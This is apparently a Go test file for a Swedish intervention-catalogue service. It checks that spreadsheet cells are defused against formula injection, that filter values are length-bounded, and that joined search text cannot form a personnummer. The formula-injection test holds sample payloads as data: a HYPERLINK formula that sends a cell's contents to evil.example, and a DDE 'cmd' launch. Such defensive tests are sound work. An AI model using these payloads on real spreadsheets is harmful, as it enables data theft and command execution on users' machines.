package insatser

import (
	"net/url"
	"slices"
	"strings"
	"testing"

	pnr "github.com/effekt/effekt/ingest/parse"
)

// TestDefuse: a catalogue cell a spreadsheet would run as a formula is
// served as text (a leading apostrophe); everything else as it is.
func TestDefuse(t *testing.T) {
	got := defuse([]string{`=HYPERLINK("http://evil.example/?"&A1,"Klicka")`, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-1+1", "\t=1", "\r=1",
		"Jobbspår", "", "0127", "33.3", "a=b", "＝1+1"})
	want := []string{`'=HYPERLINK("http://evil.example/?"&A1,"Klicka")`, "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-1+1", "'\t=1", "'\r=1",
		"Jobbspår", "", "0127", "33.3", "a=b", "'＝1+1"}
	if !slices.Equal(got, want) {
		t.Errorf("defuse:\n got %q\nwant %q", got, want)
	}
}

// TestFilterBounded: a category, language or free text of any length is
// cut (at a character boundary) before it is echoed into every link of
// the map.
func TestFilterBounded(t *testing.T) {
	long := strings.Repeat("å", 400) // 800 bytes
	q := url.Values{"lan": {"alla"}, "kategori": {long}, "sprak": {long}, "q": {long}}
	f, err := parseFilter(q)
	if err != nil {
		t.Fatal(err)
	}
	if len(f.Category) != maxFilterValue || len(f.Language) != maxFilterValue || len(f.Text) != maxFilterText {
		t.Errorf("lengths %d, %d, %d; want %d, %d, %d", len(f.Category), len(f.Language), len(f.Text), maxFilterValue, maxFilterValue, maxFilterText)
	}
	if s := strings.Repeat("x", 99) + "å"; clip(s, 100) != strings.Repeat("x", 99) {
		t.Errorf("clip cut inside a character: %q", clip(s, 100))
	}
	if len(f.Query(false)) > 3*(2*maxFilterValue+maxFilterText)+100 {
		t.Errorf("query string %d bytes", len(f.Query(false)))
	}
}

// TestSearchTextJoinsNoPersonnummer: fields masked one by one at load
// must not make a personnummer when joined for the search.
func TestSearchTextJoinsNoPersonnummer(t *testing.T) {
	in := &Intervention{ID: "Z-002-19800101", Name: "1234 kurs", Category: "Grupp 19800101", Description: "1234 deltagare"}
	if got := searchText(in); pnr.HasPNR(got) {
		t.Errorf("searchText %q holds a personnummer shape", got)
	}
}
